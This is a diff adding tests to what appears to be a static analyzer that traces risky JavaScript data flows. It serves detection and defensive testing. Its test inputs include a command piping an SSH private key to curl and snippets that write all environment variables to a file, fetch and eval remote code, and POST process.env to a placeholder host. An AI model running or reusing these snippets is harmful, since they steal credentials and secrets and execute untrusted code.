@@ -243,3 +243,38 @@ def test_flows_and_risks_inside_a_command_line_are_carried(
          ((2, "piped into curl"),))}
     assert facts.risks == (Risk("exfil-pipe", Location(FILE, 2, 1),
                                 "cat ~/.ssh/id_rsa | curl -d @- https://l.example.org"),)
+
+
+def test_items_of_the_environment_written_to_a_stream() -> None:
+    source = ('const fs = require("fs");\n'
+              'const out = fs.createWriteStream("/tmp/env.log");\n'
+              'for (const [name, value] of Object.entries(process.env)) {\n'
+              '  out.write(`${name}=${value}\\n`);\n'
+              '}\n')
+    assert flows(source) == {("env.read(*)", 3, "fs.write(/tmp/env.log)", 2,
+                              ((3, "assigned to name"), (4, "written to out")))}
+
+
+def test_code_read_from_a_file_run_in_a_context() -> None:
+    source = ('const fs = require("fs");\n'
+              'const vm = require("vm");\n'
+              'vm.runInNewContext(fs.readFileSync(process.argv[2], "utf8"));\n')
+    assert flows(source) == {("fs.read(*)", 3, "code.dynamic(eval)", 3, ())}
+
+
+def test_the_origin_of_a_fetch_given_options() -> None:
+    source = ('const axios = require("axios");\n'
+              'axios({ method: "get", url: "https://m.example.org/" + process.argv[3] })\n'
+              '  .then(r => eval(r.data));\n')
+    facts = extract(source)
+    assert {summary(f) for f in facts.flows} == {
+        ("net.connect(m.example.org)", 2, "code.dynamic(eval)", 3,
+         ((3, "passed to then() callback as r"),))}
+    assert facts.flows[0].origin == "https://m.example.org/*"
+
+
+@pytest.mark.parametrize("depth", [10, 400])
+def test_nesting_does_not_hide_a_secret(depth: int) -> None:
+    source = ('fetch("https://n.example.org", { method: "POST", body: '
+              + "[" * depth + "process.env" + "]" * depth + " });\n")
+    assert flows(source) == {("env.read(*)", 1, "net.connect(n.example.org)", 1, ())}
